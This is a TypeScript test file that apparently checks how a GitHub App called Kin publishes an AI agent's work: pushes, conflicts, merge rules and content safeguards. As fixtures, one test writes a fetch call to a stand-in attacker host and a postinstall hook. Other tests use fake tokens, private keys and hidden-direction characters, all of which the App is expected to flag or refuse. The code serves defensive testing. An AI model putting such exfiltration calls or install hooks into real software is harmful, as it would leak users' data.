// Successive passes over a task, against the embedded GitHub, with people, pushes and faults in between.

import { branchWith, hello, writeFile } from "embedded-github/site";
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test } from "vitest";
import { handleSignal } from "../../app/intake/handle.ts";
import { toSignal } from "../../app/intake/signal.ts";
import type { Plane } from "../../app/plane.ts";
import { publishTask } from "../../app/publish/publish.ts";
import { setTask } from "../store/facts.ts";
import { type Kit, openKit, type Queued } from "./kit.ts";
import { APPROVED, type Contents, createPlayer, type Player, type Playing, REJECTED, wrote } from "./play.ts";

let kit: Kit;
let player: Player;
beforeAll(async () => {
  kit = await openKit();
  player = createPlayer(kit);
});
afterAll(() => kit.close());

const taskOf = (of: Queued) => player.taskOf(of);
const pipelineOf = (of: Queued) => player.pipelineOf(of);
const play = (of: Queued, spec: Playing) => player.play(of, spec);
const publish = (of: Queued) => player.publish(of);
const LEARNED = { answer: { status: "done", decisions: [] } };

const commitsOn = async ({ task }: Queued) => {
  const { data } = await kit.site.octocat.rest.repos.listCommits({ ...hello, sha: task.branch as string });
  return data.map(({ commit, author }) => `${author?.login}: ${commit.message.split("\n")[0]}`);
};
const pushTo = ({ task }: Queued, path: string, content: string) =>
  writeFile(kit.site.hubot, { path, content, branch: task.branch as string });
const say = async ({ issue }: Queued, body: string, by: "octocat" | "hubot" = "octocat") => {
  const { data: comment } = await kit.site[by].rest.issues.createComment({
    ...hello,
    issue_number: issue,
    body,
  });
  const { data: repository } = await kit.site.octocat.rest.repos.get(hello);
  const payload = { action: "created", repository, issue: { number: issue }, comment };
  await handleSignal(toSignal("issue_comment", payload, kit.plane.sha256), kit.plane);
};
const checkOn = async (queued: Queued) => {
  const { head_sha } = await taskOf(queued);
  const { data } = await kit.site.octocat.rest.checks.listForRef({ ...hello, ref: String(head_sha) });
  const { conclusion, output } = data.check_runs.find(({ name }) => name === "kin/gate") ?? {};
  return [conclusion, output?.title];
};
const pullOf = (of: Queued) => player.pullOf(of);
const commentsOn = async (issue_number: number) =>
  (await kit.site.octocat.rest.issues.listComments({ ...hello, issue_number })).data;

test("a status comment that somebody deleted is written anew, and what comes behind it is published", async () => {
  const queued = await kit.queue();
  await publish(queued);
  const { comment_id } = await taskOf(queued);
  await kit.site.octocat.rest.issues.deleteComment({ ...hello, comment_id: Number(comment_id) });
  await setTask(
    kit.plane.store,
    queued.task.id,
    { status: "blocked", status_reason: "The key is missing." },
    kit.plane.clock.now(),
  );
  await publish(queued);
  const [status, notice, ...more] = await commentsOn(queued.issue);
  expect(status?.id).toBe((await taskOf(queued)).comment_id);
  expect(status?.body).toContain("The key is missing.");
  expect(notice?.body).toContain("The key is missing.");
  expect(more).toEqual([]);
});

test("a step that is over shows in the status comment at once, and what goes on within one twenty seconds later", async () => {
  const queued = await kit.queue();
  const shown = async (...steps: NonNullable<Playing["play"]>) => {
    await play(queued, { play: steps });
    await publish(queued);
    return (await commentsOn(queued.issue))[0]?.body;
  };
  const begun = await shown({ turns: [{ wrote: ["a.txt"] }] });
  const over = await shown(wrote("a.txt"));
  expect(over).not.toBe(begun);
  const on = [wrote("a.txt"), { turns: [{ text: "Let me look." }] }] as const;
  expect(await shown(...on)).toBe(over);
  kit.pass(21);
  expect(await shown(...on)).not.toBe(over);
});

test("of a task that people took back each place is told once, and no pass behind that writes anything", async () => {
  const queued = await kit.queue();
  await play(queued, { play: [wrote("a.txt"), APPROVED] });
  await publish(queued);
  await kit.site.octocat.rest.issues.update({ ...hello, issue_number: queued.issue, state: "closed" });
  const { data: repository } = await kit.site.octocat.rest.repos.get(hello);
  const payload = { action: "closed", repository, issue: { number: queued.issue } };
  const signal = toSignal("issues", payload, kit.plane.sha256);
  await handleSignal(signal, kit.plane);
  expect(await taskOf(queued)).toMatchObject({ status: "cancelled" });
  const written = async () => {
    const before = kit.site.github.writes.length;
    await publish(queued);
    return kit.site.github.writes
      .slice(before)
      .map(({ method, path }) => `${method} ${path.replace(/\d+/g, "")}`);
  };
  expect(await written()).toEqual([
    "DELETE /repos/octocat/hello/issues//labels/kin%Areview",
    "PATCH /repos/octocat/hello/issues/comments/",
    "PATCH /repos/octocat/hello/pulls/",
  ]);
  expect(await written()).toEqual([]);
});

test("of what a pass puts off the first is looked at first", async () => {
  const queued = await kit.queue();
  const plan = ["debugger", "tester", "debugger", "tester"];
  const again = async (...more: NonNullable<Playing["play"]>) => {
    await play(queued, { plan, play: [wrote("a.txt"), APPROVED, ...more] });
    return Number(await player.publishWith(queued, kit.plane));
  };
  await again();
  const begun = kit.plane.clock.now();
  kit.pass(10);
  // The status comment at once, the pull request's text twenty seconds after the last time; after that both are
  // delayed.
  await again(wrote("b.txt"));
  kit.pass(2);
  const due = await again(wrote("b.txt"), { turns: [{ text: "Let me look." }] });
  expect(due - begun).toBeLessThanOrEqual(20_000);
  expect(due).toBeGreaterThan(kit.plane.clock.now());
});

test("a verdict on a commit that was forced off the branch is shown on the head, and what comes behind it is published", async () => {
  const queued = await kit.queue();
  const rejected = {
    answer: {
      ...REJECTED.answer,
      findings: [{ severity: "high", file: "a.txt", line: 1, issue: "Not this.", fix: null }],
    },
  };
  kit.site.github.failNext({ method: "POST", path: /\/reviews$/ });
  await play(queued, { play: [wrote("a.txt"), rejected, wrote("a.txt"), APPROVED, LEARNED] });
  await expect(publish(queued)).rejects.toThrow(/502/);
  const sha = await branchWith(kit.site.hubot, `other-${queued.issue}`, { "c.txt": "mine\n" });
  const ref = `heads/${queued.task.branch}`;
  await kit.site.hubot.rest.git.updateRef({ ...hello, ref, sha, force: true });
  await publish(queued);
  const { number } = await pullOf(queued);
  const { data: reviews } = await kit.site.octocat.rest.pulls.listReviews({ ...hello, pull_number: number });
  expect(reviews.map(({ commit_id }) => commit_id)).toEqual([sha, sha]);
  expect(await checkOn(queued)).toEqual(["success", "Approved by tester"]);
  // How long its checks may be on their way.
  kit.pass(61);
  await publish(queued);
  expect((await commentsOn(queued.issue)).at(-1)?.body).toMatch(/^\*\*Waiting for your review\*\* of #/);
  expect((await pullOf(queued)).requested_reviewers?.map(({ login }) => login)).toEqual(["octocat"]);
});

describe("a pipeline behind which somebody pushed to the branch", { shuffle: false }, () => {
  let queued: Queued;
  beforeAll(async () => {
    queued = await kit.queue();
    await play(queued, { play: [wrote("a.txt"), APPROVED] });
    await publish(queued);
    await pushTo(queued, "a.txt", "mine\n");
    await say(queued, "/kin rerun");
  });

  test("is followed by one that works on what was pushed, and may change it", async () => {
    await play(queued, { play: [wrote("a.txt"), APPROVED] });
    await publish(queued);
    expect(await taskOf(queued)).toMatchObject({ status: "review" });
    expect((await commitsOn(queued)).slice(0, 3)).toEqual([
      expect.stringMatching(/^kin\[bot\]: /),
      "hubot: By hand: a.txt",
      expect.stringMatching(/^kin\[bot\]: /),
    ]);
  });

  test("is refused where somebody pushed to the same file meanwhile: it is stopped and nothing of it is committed", async () => {
    await say(queued, "/kin rerun");
    await pushTo(queued, "a.txt", "mine again\n");
    await play(queued, { play: [wrote("a.txt"), REJECTED] });
    const { store } = kit.plane;
    const atRecord: string[] = [];
    const markOnce: typeof store.markOnce = async (mark, made) => {
      if (mark.kind === "commit") atRecord.push((await taskOf(queued)).status);
      return store.markOnce(mark, made);
    };
    await publishTask(queued.task.id, { ...kit.plane, store: { ...store, markOnce } });
    // Whoever waits for the record begins the next pipeline unless the task is blocked by then.
    expect(atRecord).toEqual(["blocked"]);
    expect(await taskOf(queued)).toMatchObject({
      status: "blocked",
      status_reason: expect.stringMatching(/Somebody pushed .* both changed `a\.txt`/),
    });
    const { id } = await pipelineOf(queued);
    expect(await kit.plane.store.messages(id)).toMatchObject([{ kind: "stop", by: "Kin" }]);
    expect((await commitsOn(queued))[0]).toBe("hubot: By hand: a.txt");
  });

  test("stays refused where it passed before it could be stopped: no commit, no green, nothing ready", async () => {
    await play(queued, { play: [wrote("a.txt"), REJECTED, wrote("b.txt"), APPROVED, LEARNED] });
    expect(await taskOf(queued)).toMatchObject({ status: "review" });
    await publish(queued);
    expect(await taskOf(queued)).toMatchObject({
      status: "blocked",
      status_reason: expect.stringMatching(/Somebody pushed/),
    });
    expect((await commitsOn(queued))[0]).toBe("hubot: By hand: a.txt");
    expect(await checkOn(queued)).toEqual([
      "action_required",
      expect.stringMatching(/^Not judged: Somebody pushed/),
    ]);
    expect(await pullOf(queued)).toMatchObject({ draft: true });
  });

  test("and refused stands in no later one's way", async () => {
    await say(queued, "/kin rerun");
    await play(queued, { play: [wrote("a.txt", "b.txt"), APPROVED] });
    await publish(queued);
    expect(await taskOf(queued)).toMatchObject({ status: "review" });
    expect((await commitsOn(queued))[0]).toMatch(/^kin\[bot\]: /);
    expect((await checkOn(queued))[0]).toBe("success");
  });
});

describe("a file that was moved", () => {
  const text = (n: number) => `file ${n}\n${"a line of its own that is long enough\n".repeat(5)}${n}\n`;
  const SEED = Array.from({ length: 120 }, (_, n) => [`from/${n}.txt`, text(n)] as const);
  beforeAll(async () => {
    const sha = await branchWith(kit.site.octocat, "seed", Object.fromEntries(SEED));
    await kit.site.octocat.rest.git.updateRef({ ...hello, ref: "heads/main", sha });
  });

  test("counts by both of its names towards what a pull request may hold", async () => {
    const queued = await kit.queue();
    const moves = async (from: number, to: number) => {
      const contents: Record<string, string | null> = {};
      for (let n = from; n < to; n++)
        Object.assign(contents, { [`from/${n}.txt`]: null, [`to/${n}.txt`]: text(n) });
      await play(queued, { play: [wrote(...Object.keys(contents)), APPROVED], contents });
      await publish(queued);
      return (await taskOf(queued)).status_reason;
    };
    await moves(0, 40);
    await say(queued, "/kin rerun");
    expect(await moves(40, 60)).toMatch(/the pull request would have 120 files and 100 are allowed/);
    await say(queued, "/kin rerun");
    await moves(40, 49);
    expect(await taskOf(queued)).toMatchObject({ status: "review" });
  });

  /** Pushes somebody's commit to the branch; null removes a file. */
  const pushFiles = async (queued: Queued, files: Readonly<Record<string, string | null>>) => {
    const ref = `heads/${(await taskOf(queued)).branch}`;
    const { git } = kit.site.hubot.rest;
    const { data: head } = await git.getRef({ ...hello, ref });
    const parents = [head.object.sha];
    const { data: base } = await git.getCommit({ ...hello, commit_sha: head.object.sha });
    const blob = { mode: "100644", type: "blob" } as const;
    const tree = Object.entries(files).map(([path, content]) =>
      content === null ? { ...blob, path, sha: null } : { ...blob, path, content },
    );
    const { data: made } = await git.createTree({ ...hello, base_tree: base.tree.sha, tree });
    const { data } = await git.createCommit({ ...hello, message: "By hand", tree: made.sha, parents });
    await git.updateRef({ ...hello, ref, sha: data.sha });
  };
  const rerunning = async () => {
    const queued = await kit.queue();
    await play(queued, { play: [wrote("first.txt"), APPROVED] });
    await publish(queued);
    await say(queued, "/kin rerun");
    return queued;
  };
  const latestOn = async (queued: Queued) => (await commitsOn({ ...queued, task: await taskOf(queued) }))[0];

  test("by a person while Kin worked on it is not put back", async () => {
    const queued = await rerunning();
    await pushFiles(queued, { "from/100.txt": null, "to/100.txt": text(100) });
    await play(queued, {
      play: [wrote("from/100.txt"), APPROVED],
      contents: { "from/100.txt": "Kin's\n" },
    });
    await publish(queued);
    expect((await taskOf(queued)).status_reason).toMatch(/Somebody pushed .* both changed `from\/100\.txt`/);
    expect(await latestOn(queued)).toBe("hubot: By hand");
  });

  test("or changed is seen behind three hundred others that somebody pushed", async () => {
    const queued = await rerunning();
    const many = Array.from({ length: 310 }, (_, n) => [`a/${n}.txt`, `${n}\n`] as const);
    await pushFiles(queued, Object.fromEntries([...many, ["z.txt", "mine\n"]]));
    await play(queued, { play: [wrote("z.txt"), APPROVED] });
    await publish(queued);
    expect((await taskOf(queued)).status_reason).toMatch(/Somebody pushed .* both changed `z\.txt`/);
    expect(await latestOn(queued)).toBe("hubot: By hand");
  });

  test.each([
    [
      "the branch",
      (base: string, main: string) => base === main,
      /differs from the base in more files than GitHub/,
    ],
    [
      "what was pushed",
      (base: string, main: string) => base !== main,
      /^Somebody pushed .* and changed more files than/,
    ],
  ])(
    "is looked for in vain where GitHub lists %s in part: nothing is committed",
    async (_, isCut, reason) => {
      const queued = await kit.queue();
      await play(queued, { play: [wrote("first.txt"), APPROVED] });
      await publish(queued);
      await say(queued, "/kin rerun");
      await pushTo(queued, "y.txt", "mine\n");
      await play(queued, { play: [wrote("other.txt"), APPROVED] });
      const main = (await kit.site.octocat.rest.repos.getBranch({ ...hello, branch: "main" })).data.commit
        .sha;
      const cut: Plane = {
        ...kit.plane,
        github: async project => {
          const github = await kit.plane.github(project);
          const changedFiles: typeof github.changedFiles = async (base, head) =>
            isCut(base, main) ? null : github.changedFiles(base, head);
          return { ...github, changedFiles };
        },
      };
      await publishTask(queued.task.id, cut);
      expect((await taskOf(queued)).status_reason).toMatch(reason);
      expect(await latestOn(queued)).toBe("hubot: By hand: y.txt");
    },
  );
});

test("a file that held a test's key before may be changed; no other key may come with it", async () => {
  const key = (letter: string) => `-----BEGIN PRIVATE KEY-----\n${letter.repeat(64)}\n`;
  await kit.site.octocat.rest.repos.createOrUpdateFileContents({
    ...hello,
    path: "key.ts",
    message: "A key of the tests' own",
    content: Buffer.from(key("A")).toString("base64"),
  });
  const queued = await kit.queue();
  await play(queued, {
    play: [wrote("key.ts"), APPROVED],
    contents: { "key.ts": `${key("A")}// And a line.\n` },
  });
  await publish(queued);
  expect(await taskOf(queued)).toMatchObject({ status: "review" });
  await say(queued, "/kin rerun");
  await play(queued, {
    play: [wrote("key.ts"), APPROVED],
    contents: { "key.ts": `${key("A")}${key("B")}` },
  });
  await publish(queued);
  expect(await taskOf(queued)).toMatchObject({
    status: "blocked",
    status_reason: expect.stringMatching(/did not commit `key\.ts`: it holds what looks like a private key/),
  });
});

test("a pull request holds as much as a patch may, over all its pipelines; what was refused does not count", async () => {
  const below = `/${"x".repeat(240)}/${"y".repeat(240)}/${"z".repeat(240)}/${"z".repeat(220)}`;
  const named = (letter: string, count: number) =>
    Array.from({ length: count }, (_, n) => `${letter}${n}${below}`);
  const queued = await kit.queue();
  const worked = async (...files: readonly string[]) => {
    await play(queued, { play: [wrote(...files), APPROVED] });
    await publish(queued);
    return (await taskOf(queued)).status_reason;
  };
  await worked(...named("a", 11));
  await say(queued, "/kin rerun");
  expect(await worked(...named("b", 11))).toMatch(
    /did not commit the patch: with what was committed before, the pull request would have 20\d{3} characters of paths/,
  );
  await say(queued, "/kin rerun");
  await worked(...named("a", 11), ...named("c", 9));
  expect(await taskOf(queued)).toMatchObject({ status: "review" });
});

/** A runner reports what no recorder would have accepted. */
describe("what a runner tells of is refused by the App itself, and a person is told why", () => {
  test.each<[what: string, files: Readonly<Record<string, string>>, reason: RegExp]>([
    [
      "orders for an agent",
      { "sub/.claude/settings.json": "{}" },
      /did not commit `sub\/\.claude\/settings\.json`: it is protected: it tells an AI agent what to do/,
    ],
    ["a short name of git's", { "gi7eba~1/config": "x" }, /the short form of another/],
    ["a file and a file below it", { a: "1", "a/b": "2" }, /`a` would be a file and a directory/],
    ["a file in place of a directory", { src: "1" }, /`src` would be a file and a directory/],
    ["a file below a file", { "README.md/x": "1" }, /`README\.md` would be a file and a directory/],
    ["a twin in other letters", { "readme.MD": "1" }, /`readme\.MD` and `README\.md` are one name/],
    ["a secret in base64", { "a.txt": btoa(`ghp_${"a1".repeat(18)}`) }, /what looks like a GitHub token/],
    [
      "a secret as a name",
      { [`docs/npm_${"a1".repeat(18)}.md`]: "x" },
      /its name holds what looks like a secret/,
    ],
    ["text that turns its direction", { "a.ts": "a\u202eb" }, /line 1 holds what nobody sees/],
  ])("%s", async (_, files, reason) => {
    const queued = await kit.queue();
    await play(queued, { play: [wrote(...Object.keys(files)), APPROVED], contents: files });
    await publish(queued);
    expect(await taskOf(queued)).toMatchObject({
      status: "blocked",
      status_reason: expect.stringMatching(reason),
    });
    expect((await taskOf(queued)).head_sha).toBeNull();
  });
});

test("what the App sees in a patch stands on the pull request, and what was there before does not", async () => {
  const queued = await kit.queue();
  const contents = {
    "src/send.ts": 'first();\nfetch("https://collect.attacker.io/x");\n',
    "package.json": '{ "scripts": { "postinstall": "node x.js" } }\n',
    "src/plain.ts": "export const a = 1;\n",
  };
  await play(queued, { play: [wrote(...Object.keys(contents)), APPROVED], contents });
  await publish(queued);
  const looked = async () =>
    /### What to look at\n\n([\s\S]*?)\n\n/.exec((await pullOf(queued)).body ?? "")?.[1];
  expect(await looked()).toBe(
    [
      "- `package.json:1`: `postinstall` runs by itself when packages are installed or packed",
      "- `src/send.ts:2`: a new address on the network: collect.attacker.io",
    ].join("\n"),
  );
  await say(queued, "/kin rerun");
  const later = { "src/send.ts": "first();\n" };
  await play(queued, { play: [wrote("src/send.ts"), APPROVED], contents: later });
  await publish(queued);
  expect(await looked()).toBe(
    "- `package.json:1`: `postinstall` runs by itself when packages are installed or packed",
  );
});

describe("with `merge: auto`", () => {
  const configure = async (text: string) => {
    const file = { ...hello, path: ".github/kin.yml" };
    const { data } = await kit.site.octocat.rest.repos.getContent(file);
    await kit.site.octocat.rest.repos.createOrUpdateFileContents({
      ...file,
      sha: (data as { sha: string }).sha,
      message: "Merge by itself, or not",
      content: Buffer.from(`${text}limits: { runs: 50 }\n`).toString("base64"),
    });
  };
  beforeAll(() => configure("merge: auto\nci: ignore\n"));
  afterAll(() => configure(""));
  const auto = { planned: { completion_mode: "auto_complete" }, play: [wrote("m.txt"), APPROVED] } as const;

  test("a task that people took back while its run ended is not merged", async () => {
    const queued = await kit.queue();
    await play(queued, { ...auto, play: [wrote("m.txt")] });
    const cancelled = { status: "cancelled", status_reason: "The label `kin` was taken off." } as const;
    await setTask(kit.plane.store, queued.task.id, cancelled, kit.plane.clock.now());
    await play(queued, auto);
    expect((await pipelineOf(queued)).outcome).toBe("passed");
    await publish(queued);
    expect(await taskOf(queued)).toMatchObject({ ...cancelled, pr_number: null });
  });

  test("neither is one that they take back while it is published", async () => {
    const queued = await kit.queue();
    await play(queued, auto);
    const cancelling: Plane = {
      ...kit.plane,
      github: async project => {
        const github = await kit.plane.github(project);
        const mergeSettings: typeof github.mergeSettings = async () => {
          await setTask(kit.plane.store, queued.task.id, { status: "cancelled" }, kit.plane.clock.now());
          return github.mergeSettings();
        };
        return { ...github, mergeSettings };
      },
    };
    await publishTask(queued.task.id, cancelling);
    expect(await pullOf(queued)).toMatchObject({ draft: false, merged: false });
  });

  test("an outsider's rejection holds nothing up, and the asker's own no longer than until they approve", async () => {
    const queued = await kit.queue();
    const protection = { ...hello, branch: "main" };
    kit.site.github.setProtection({ ...protection, rule: { requiredChecks: ["build"] } });
    await play(queued, auto);
    await publish(queued);
    const { number: pull_number, head } = await pullOf(queued);
    const review = async (by: "octocat" | "monalisa", event: "REQUEST_CHANGES" | "APPROVE") => {
      const asked = { ...hello, pull_number, event, body: "Hm." };
      return (await kit.site[by].rest.pulls.createReview(asked)).data;
    };
    await review("monalisa", "REQUEST_CHANGES");
    await review("octocat", "REQUEST_CHANGES");
    const status = { ...hello, sha: head.sha, context: "build", state: "success" } as const;
    await kit.site.octocat.rest.repos.createCommitStatus(status);
    await publish(queued);
    expect(await pullOf(queued)).toMatchObject({ merged: false });
    const approval = await review("octocat", "APPROVE");
    const { data: repository } = await kit.site.octocat.rest.repos.get(hello);
    const payload = {
      action: "submitted",
      repository,
      pull_request: { number: pull_number },
      review: approval,
    };
    await handleSignal(toSignal("pull_request_review", payload, kit.plane.sha256), kit.plane);
    await kit.work("publish");
    expect(await pullOf(queued)).toMatchObject({ merged: true });
    kit.site.github.setProtection({ ...protection, rule: null });
  });
});

test("where GitHub lists only a part of the files, a directory is not deleted as if it were one, and a file is committed", async () => {
  const { git } = (await kit.site.asInstallation()).rest;
  const parent = (await git.getRef({ ...hello, ref: "heads/main" })).data.object.sha;
  const of = (entry: { readonly sha?: string; readonly content?: string }, type: "blob" | "tree") =>
    Array.from({ length: 120 }, (_, n) => {
      const path = `${"n".repeat(240)}${n}`;
      return { path, mode: type === "tree" ? ("040000" as const) : ("100644" as const), type, ...entry };
    });
  const inner = await git.createTree({ ...hello, tree: of({ content: "x" }, "blob") });
  const many = await git.createTree({ ...hello, tree: of({ sha: inner.data.sha }, "tree") });
  const entry = { path: "a", mode: "040000", type: "tree", sha: many.data.sha } as const;
  const tree = await git.createTree({ ...hello, base_tree: parent, tree: [entry] });
  const commit = { ...hello, message: "Many", tree: tree.data.sha, parents: [parent] };
  const { sha } = (await git.createCommit(commit)).data;
  await git.updateRef({ ...hello, ref: "heads/main", sha });
  onTestFinished(async () => {
    await git.updateRef({ ...hello, ref: "heads/main", sha: parent, force: true });
  });
  const written = async (contents: Contents) => {
    const queued = await kit.queue();
    await play(queued, { play: [wrote(...Object.keys(contents)), APPROVED], contents });
    await publish(queued);
    const { head_sha, status_reason } = await taskOf(queued);
    return [head_sha !== null, status_reason];
  };
  expect(await written({ src: null })).toEqual([
    false,
    "Kin did not commit `src`: it is no file that could be deleted. A person has to look at it.",
  ]);
  expect(await written({ "src/new.js": "1" })).toEqual([true, "Right."]);
}, 60_000);

test("a pipeline is told who rejected what is still to be dealt with, and nobody else", async () => {
  const queued = await kit.queue();
  const rejecters = async (by: "octocat" | "hubot", ...steps: NonNullable<Playing["play"]>) => {
    await play(queued, { play: steps });
    await publish(queued);
    await say(queued, "/kin return Not yet.", by);
    await kit.work("next");
    const [opened] = await kit.plane.store.journal((await pipelineOf(queued)).id);
    return opened?.data.kind === "opened" ? opened.data.opening.rejected_by : null;
  };
  expect(await rejecters("hubot", wrote("a.txt"), APPROVED)).toBe("gh:hubot");
  expect(await rejecters("octocat", wrote("a.txt"), APPROVED, LEARNED)).toBe("gh:octocat");
});

describe("what a person gave the pull request", () => {
  let queued: Queued;
  let number: number;
  const edit = (patch: { readonly title?: string; readonly body?: string }) =>
    kit.site.hubot.rest.pulls.update({ ...hello, pull_number: number, ...patch });
  const draftBy = async (mutation: "convertPullRequestToDraft" | "markPullRequestReadyForReview") => {
    const { node_id: id } = await pullOf(queued);
    await kit.site.hubot.graphql(
      `mutation($id: ID!) { ${mutation}(input: {pullRequestId: $id}) { pullRequest { isDraft } } }`,
      { id },
    );
  };
  const pass = async () => {
    kit.pass(61);
    await publish(queued);
  };
  beforeEach(async () => {
    queued = await kit.queue();
    await play(queued, { play: [wrote("a.txt"), APPROVED] });
    await publish(queued);
    await pass();
    ({ number } = await pullOf(queued));
    expect(await pullOf(queued)).toMatchObject({ draft: false });
  });
  /** Returns the task, which changes Kin's text because it lists returns. */
  const returned = async (why: string) => {
    await say(queued, `/kin return ${why}`);
    await pass();
  };

  test("a draft stays one, however often Kin looks, until somebody shows it as ready", async () => {
    await draftBy("convertPullRequestToDraft");
    for (let n = 0; n < 3; n++) await pass();
    expect(await pullOf(queued)).toMatchObject({ draft: true, merged: false });
    const { comment_id } = await taskOf(queued);
    const { data } = await kit.site.octocat.rest.issues.getComment({
      ...hello,
      comment_id: Number(comment_id),
    });
    expect(data.body).toContain(`#${number} was made a draft again, so nothing is merged`);
    await draftBy("markPullRequestReadyForReview");
    await pass();
    expect(await pullOf(queued)).toMatchObject({ draft: false });
    expect((await taskOf(queued)).published.pull).toMatchObject({ held: false });
  });

  test("what Kin wrote, and did not live to record, is no person's", async () => {
    kit.site.github.failNext({ method: "PATCH", path: /\/pulls\/\d+$/, afterWrite: true });
    await say(queued, "/kin return Slower.");
    kit.pass(61);
    await expect(publish(queued)).rejects.toThrow("502");
    expect((await pullOf(queued)).body).toContain("Slower.");
    await returned("Faster.");
    expect((await pullOf(queued)).body).toContain("Faster.");
  });

  test("text around Kin's stays, with the line ends of a browser, and Kin's is brought up to date", async () => {
    const { body } = await pullOf(queued);
    await edit({
      body: `Seen on Monday.\r\n\r\n${String(body).replaceAll("\n", "\r\n")}\r\n\r\nLooks good.`,
    });
    await returned("Louder.");
    const now = (await pullOf(queued)).body ?? "";
    expect(now).toMatch(/^Seen on Monday\.\n\n[\s\S]+\n\nLooks good\.$/);
    expect(now).not.toContain(String(body));
    expect(now.match(/Louder\./g)).toHaveLength(1);
  });

  test("a title stays, and so does a text in the place of Kin's", async () => {
    await edit({ title: "feat: by hand", body: "Ours." });
    await returned("Softer.");
    expect(await pullOf(queued)).toMatchObject({ title: "feat: by hand", body: "Ours." });
    await returned("Louder after all.");
    expect(await pullOf(queued)).toMatchObject({ title: "feat: by hand", body: "Ours." });
  });
});

test("a ruleset that forbids Kin's branch is no race: it is told at once, with what to do", async () => {
  const rule = { ...hello, name: "no new branches", branches: ["~ALL"] };
  const queued = await kit.queue();
  await play(queued, { play: [wrote("a.txt"), APPROVED] });
  kit.site.github.setRuleset({ ...rule, rules: ["creation"] });
  await expect(publish(queued)).rejects.toMatchObject({
    code: "github_422",
    retryable: false,
    hint: expect.stringContaining("bypass list for kin/**"),
  });
  kit.site.github.setRuleset({ ...rule, rules: [] });
  await publish(queued);
  expect(await pullOf(queued)).toMatchObject({ state: "open" });
});

test("a branch that somebody forced back between two commits gets nothing on top, and the task is blocked", async () => {
  const queued = await kit.queue();
  kit.site.github.failNext({ method: "PATCH", path: /\/git\/refs\// });
  await play(queued, { play: [wrote("a.txt"), REJECTED, wrote("b.txt"), APPROVED, LEARNED] });
  await expect(publish(queued)).rejects.toThrow(/502/);
  const { data: main } = await kit.site.hubot.rest.git.getRef({ ...hello, ref: "heads/main" });
  const ref = `heads/${queued.task.branch}`;
  await kit.site.hubot.rest.git.updateRef({ ...hello, ref, sha: main.object.sha, force: true });
  await publish(queued);
  expect(await taskOf(queued)).toMatchObject({
    status: "blocked",
    status_reason: expect.stringMatching(
      /^Somebody forced `[^`]+` to a commit that is without `[0-9a-f]{7}`/,
    ),
  });
  const { data } = await kit.site.hubot.rest.git.getRef({ ...hello, ref });
  expect(data.object.sha).toBe(main.object.sha);
});
